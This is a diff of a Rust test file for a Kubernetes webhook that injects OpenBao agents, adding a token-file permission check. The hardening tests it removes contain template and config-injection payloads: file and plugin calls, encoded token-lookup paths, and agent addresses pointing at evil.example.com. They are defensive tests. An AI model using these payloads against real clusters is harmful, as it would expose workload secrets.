@@ -1,10 +1,17 @@
 //! A real agent logs in: what the injection adds is started as a kubelet would start it, against a real OpenBao server that asks the API
 //! server who is there. The agent, not a model of it, says what a configuration means.
+//!
+//! - `forms`: agents that are asked for, configured or placed otherwise
+//! - `attacks`: what an author tries to make of an agent
+
+mod attacks;
+mod forms;
 
 use serde_json::{Value, json};
 use tokio::sync::OnceCell;
 
-use crate::client::{Cluster, MERGE, STRATEGIC, path_of};
+use crate::apart::Apart;
+use crate::client::{Cluster, path_of};
 use crate::controlplane::shared;
 use crate::deadline::until;
 use crate::door::cluster;
@@ -12,9 +19,8 @@ use crate::injected::names;
 use crate::kept::Kept;
 use crate::kubelet;
 use crate::namespaces::Namespace;
-use crate::objects::{SERVICE_ACCOUNT, container, service_account, spec_with_automount_unset, with};
+use crate::objects::{SERVICE_ACCOUNT, service_account, spec_with_automount_unset, with};
 use crate::openbao::{AUTH_MOUNT, OpenBao, openbao};
-use crate::refusal::denied;
 use crate::sandbox::Sandbox;
 
 /// What a workload that wants secrets asks for.
@@ -45,10 +51,19 @@ struct Scene {
 impl Scene {
     /// `role` are further fields of the role of ServiceAccount `app`.
     async fn set(hint: &str, role: Value) -> Self {
+        Self::of(Namespace::make(cluster().await, hint, ASKS).await, role).await
+    }
+
+    /// The same at a door with settings of its own, which must outlive it.
+    async fn apart(name: &'static str, change: impl FnOnce(&mut Value)) -> (Self, Apart) {
+        let (namespace, door) = Apart::open(name, ASKS, "restricted", change).await;
+        (Self::of(namespace, json!({})).await, door)
+    }
+
+    async fn of(namespace: Namespace, role: Value) -> Self {
         static NODE: OnceCell<()> = OnceCell::const_new();
         let openbao = openbao().await;
         NODE.get_or_init(|| async { kubelet::register(&cluster().await).await }).await;
-        let namespace = Namespace::make(cluster().await, hint, ASKS).await;
         openbao.make_role(AUTH_MOUNT, &namespace.name, SERVICE_ACCOUNT, role).await;
         openbao.store(&format!("{}/db", namespace.name), "first").await;
         let kubelet = shared().cluster_as(kubelet::USER, kubelet::GROUPS).await;
@@ -149,6 +164,7 @@ async fn the_vault_token_is_kept_for_who_asks() {
         assert_eq!(status.code(), Some(0), "{log}");
         assert_eq!(sandbox.files(SECRETS), files);
         let token = sandbox.read("/vault/secrets/.vault-token").unwrap();
+        assert_eq!(sandbox.mode("/vault/secrets/.vault-token"), 0o640);
         let holder = scene.openbao.who_is(&token).await.unwrap();
         assert_eq!(holder["meta"]["role"], scene.role());
         assert_eq!(holder["meta"]["service_account_namespace"], scene.namespace.name);
@@ -227,185 +243,4 @@ fn expired(token: &str) -> String {
     let signed = format!("{}.{}", token.split('.').next().unwrap(), encode(claims.to_string().as_bytes()));
     let signature = signer.sign(signed.as_bytes()).unwrap();
     format!("{signed}.{}", encode(&signature))
-}
-
-/// Hardening A10: what a template may not call, it cannot call.
-#[tokio::test]
-async fn a_template_runs_nothing_and_reads_no_file() {
-    let scene = Scene::set("denied", json!({})).await;
-    for (number, (function, call)) in [
-        ("plugin", r#"plugin "/bin/bao" "version""#),
-        ("file", r#"file "/var/run/secrets/vault/token""#),
-        ("writeToFile", r#""x" | writeToFile "/vault/secrets/x" "" "" "0644""#),
-        ("executeTemplate", r#"executeTemplate "x""#),
-        ("env", r#"env "VAULT_ADDR""#),
-        ("envOrDefault", r#"envOrDefault "VAULT_ADDR" "x""#),
-        ("mustEnv", r#"mustEnv "VAULT_ADDR""#),
-        ("sprig_env", r#"sprig_env "VAULT_ADDR""#),
-        ("sprig_expandenv", r#"sprig_expandenv "$VAULT_ADDR""#),
-    ]
-    .into_iter()
-    .enumerate()
-    {
-        let called = format!("{{{{ {call} }}}}");
-        let answer = scene.namespace.cluster.create(&scene.authored("denied", json!({ template_key("x"): called, MODE: "init" }))).await;
-        denied(answer).by("injection-conflict").at(&format!("metadata.annotations[{}]", template_key("x")));
-        // An agent that is started with it all the same does not run it.
-        let annotations = json!({ template_key("x"): scene.template(), MODE: "init" });
-        let pod = scene.namespace.cluster.create(&scene.authored(&format!("denied-{number}"), annotations)).await.object();
-        let config = "doorward.dev/vault-agent-config";
-        let mut forged: Value = serde_json::from_str(pod["metadata"]["annotations"][config].as_str().unwrap()).unwrap();
-        forged["template"][0]["contents"] = json!(called);
-        let mut started = pod.clone();
-        started["metadata"]["annotations"][config] = json!(forged.to_string());
-        let sandbox = Sandbox::prepare(&scene.kubelet, &started).await;
-        let (status, log) = sandbox.start("vault-agent-init").ended().await;
-        assert_eq!(status.code(), Some(1), "{call}: {log}");
-        assert!(log.contains(&format!("error calling {function}: function is disabled")), "{call}: {log}");
-        assert_eq!(sandbox.files(SECRETS), [""; 0], "{call}");
-    }
-}
-
-/// Hardening A10: whatever an annotation says, it is one template's text: no quote, brace, heredoc or escape ends it.
-#[tokio::test]
-async fn a_template_is_text_to_the_configuration() {
-    let scene = Scene::set("text", json!({})).await;
-    let controls: String = (1..=31).map(char::from).collect();
-    let texts = [
-        "\"}],\"template\":[{\"command\":\"id\",\"contents\":\"",
-        "EOT\n}\ntemplate {\n  contents = <<EOT\nx\nEOT\n  exec { command = [\"/bin/bao\"] }\n}\n",
-        "${env.VAULT_ADDR} %{ if true } $${x} \\u0041 \\x41 \\n \\\" \\/ /* */ # //",
-        controls.as_str(),
-        "\u{0}\u{7f}\u{85}\u{a0}\u{2028}\u{2029}\u{feff}\u{fffd}\u{1f600}",
-        "ends with a backslash \\",
-    ];
-    let annotations = texts.iter().enumerate().map(|(number, text)| (template_key(&format!("t{number}")), json!(text)));
-    let (_, sandbox) = scene.pod("text", annotations.collect::<serde_json::Map<_, _>>().into()).await;
-    let (status, log) = sandbox.start("vault-agent-init").ended().await;
-    assert_eq!(status.code(), Some(0), "{log}");
-    for (number, text) in texts.iter().enumerate() {
-        assert_eq!(sandbox.read(&format!("{SECRETS}/t{number}")).as_deref(), Some(*text));
-    }
-    assert_eq!(sandbox.files(SECRETS).len(), texts.len());
-}
-
-/// Hardening A10: the most templates that are taken are rendered; one more, or a longer configuration, is refused.
-#[tokio::test]
-async fn as_many_templates_as_are_taken_are_rendered() {
-    let scene = Scene::set("many", json!({})).await;
-    let many = |count: usize| -> Value {
-        let templates = (0..count).map(|number| (template_key(&format!("t{number:02}")), json!(scene.template())));
-        templates.collect::<serde_json::Map<_, _>>().into()
-    };
-    let (_, sandbox) = scene.pod("most", many(32)).await;
-    let (status, log) = sandbox.start("vault-agent-init").ended().await;
-    assert_eq!(status.code(), Some(0), "{log}");
-    assert_eq!(sandbox.files(SECRETS).len(), 32);
-    assert_eq!(sandbox.read("/vault/secrets/t31").as_deref(), Some("first"));
-
-    let long = json!({ template_key("long"): "x".repeat(16 * 1024) });
-    for (name, annotations, at) in [("one-more", many(33), "t32"), ("too-long", long, "long")] {
-        let answer = scene.namespace.cluster.create(&scene.authored(name, annotations)).await;
-        denied(answer).by("injection-conflict").at(&format!("metadata.annotations[{}]", template_key(at)));
-    }
-}
-
-/// Hardening A10: a template that asks for the agent's own token is refused, however it words that. An agent that is started with it all
-/// the same gives the token away: each wording is one that OpenBao understands.
-#[tokio::test]
-async fn a_template_gets_no_vault_token() {
-    let scene = Scene::set("lookup", json!({})).await;
-    let (pod, sandbox) = scene.pod("sound", json!({ template_key("x"): scene.template() })).await;
-    let config: Value = serde_json::from_str(pod["metadata"]["annotations"]["doorward.dev/vault-agent-config"].as_str().unwrap()).unwrap();
-    let lookup = |path: &str| format!("{{{{ with secret {path} }}}}{{{{ .Data.id }}}}{{{{ end }}}}");
-    let plain = lookup(r#""auth/token/lookup-self""#);
-    for (number, template) in [
-        plain.clone(),
-        lookup(r#""auth//token/lookup-self""#),
-        lookup(r#""/auth/token/lookup-self""#),
-        lookup(r#"" /auth/token/lookup-self""#),
-        lookup("`\tauth/token/lookup-self`"),
-        lookup(r#""http://x/auth/token/lookup-self""#),
-        lookup(r#""x:/auth/token/lookup-self""#),
-        lookup(r#""\x61uth/token/lookup-self""#),
-        lookup(r#""%61uth/token/lookup-self""#),
-        lookup(r#"(print "auth" "/token/lookup-self")"#),
-        format!("{{{{-\n/* \" */ -}}}}{plain}{{{{/* \" */}}}}"),
-    ]
-    .into_iter()
-    .enumerate()
-    {
-        let key = template_key("x");
-        let authored = scene.authored(&format!("lookup-{number}"), json!({ &key: template }));
-        denied(scene.namespace.cluster.create(&authored).await).by("injection-conflict").at(&format!("metadata.annotations[{key}]"));
-
-        let mut config = config.clone();
-        config["template"][0]["contents"] = json!(template);
-        sandbox.replace(CONFIG, &config.to_string());
-        let (status, log) = sandbox.start("vault-agent-init").ended().await;
-        assert_eq!(status.code(), Some(0), "{template}: {log}");
-        let token = sandbox.read("/vault/secrets/x").unwrap();
-        assert_eq!(scene.openbao.who_is(&token).await.unwrap()["meta"]["role"], scene.role(), "{template}");
-        sandbox.clear(SECRETS);
-    }
-
-    // The same of a namespace below: one that the agent may read would print the token as well.
-    for (number, path) in ["ns1/auth/token/lookup-self", "a/b//auth/token/lookup-self", "ns1/sys/internal/ui/mounts"].iter().enumerate() {
-        let key = template_key("x");
-        let authored = scene.authored(&format!("below-{number}"), json!({ &key: lookup(&format!("{path:?}")) }));
-        denied(scene.namespace.cluster.create(&authored).await).by("injection-conflict").at(&format!("metadata.annotations[{key}]"));
-    }
-}
-
-/// Hardening A10: no file of a template's can be the sink's, nor two of them one.
-#[tokio::test]
-async fn a_template_has_a_plain_name() {
-    let scene = Scene::set("name", json!({})).await;
-    for (number, file) in [".vault-token", "Db", "_x"].into_iter().enumerate() {
-        let authored = scene.authored(&format!("name-{number}"), json!({ template_key(file): scene.template() }));
-        let field = format!("metadata.annotations[{}]", template_key(file));
-        denied(scene.namespace.cluster.create(&authored).await).by("injection-conflict").at(&field);
-    }
-}
-
-/// Hardening A9, A11: no annotation is a configuration, before the pod is there or after. The agent is started with ours.
-#[tokio::test]
-async fn the_configuration_is_ours() {
-    let scene = Scene::set("ours", json!({})).await;
-    let forged = json!({
-        template_key("db"): scene.template(),
-        "doorward.dev/vault-agent-config": "vault { address = \"https://evil.example.com\" }",
-        "doorward.dev/vault-config-map": "evil",
-    });
-    let (pod, sandbox) = scene.pod("forged", forged).await;
-    let (status, log) = sandbox.start("vault-agent-init").ended().await;
-    assert_eq!((status.code(), sandbox.read("/vault/secrets/db").as_deref()), (Some(0), Some("first")), "{log}");
-
-    let path = path_of(&pod);
-    let annotations = json!({ "doorward.dev/vault-agent-config": "{}" });
-    let patch = json!({ "metadata": { "annotations": annotations } });
-    denied(scene.namespace.cluster.patch(&path, MERGE, &patch).await).by("correlation-id-integrity").at("metadata.annotations");
-    let patch = json!({ "spec": { "initContainers": [{ "name": "vault-agent", "image": "evil.example.com/agent" }] } });
-    denied(scene.namespace.cluster.patch(&path, STRATEGIC, &patch).await).by("correlation-id-integrity").at("spec.initContainers[1].image");
-}
-
-/// Hardening A12, A13: a login is the workload's own, at the operator's server: the door refuses to name another, and the server, where
-/// that is tried all the same, does not know the workload by it.
-#[tokio::test]
-async fn a_login_is_the_workloads_own() {
-    let scene = Scene::set("own", json!({})).await;
-    scene.openbao.make_role(AUTH_MOUNT, &scene.namespace.name, "admin", json!({})).await;
-    let admin = format!("{}.admin", scene.namespace.name);
-    let authored = scene.authored("role", json!({ template_key("db"): scene.template(), "doorward.dev/vault-role": admin }));
-    denied(scene.namespace.cluster.create(&authored).await).by("vault-role-allowed").at("metadata.annotations[doorward.dev/vault-role]");
-    let (pod, _) = scene.pod("own", json!({ template_key("db"): scene.template() })).await;
-    let refused = scene.openbao.log_in(AUTH_MOUNT, &admin, &scene.mounted(&pod).await).await.unwrap_err().0;
-    assert!(refused.contains("Code: 403") && refused.contains("service account name not authorized"), "{refused}");
-
-    let mut authored = scene.authored("elsewhere", json!({}));
-    let mut agent = container("agent");
-    agent["command"] = json!(["bao", "agent", "-config=/etc/agent.hcl", "-exit-after-auth"]);
-    agent["env"] = json!([{ "name": "VAULT_ADDR", "value": "https://evil.example.com" }]);
-    authored["spec"]["initContainers"] = json!([agent]);
-    denied(scene.namespace.cluster.create(&authored).await).by("vault-login-target").at("spec.initContainers[0].env[0].value");
 }
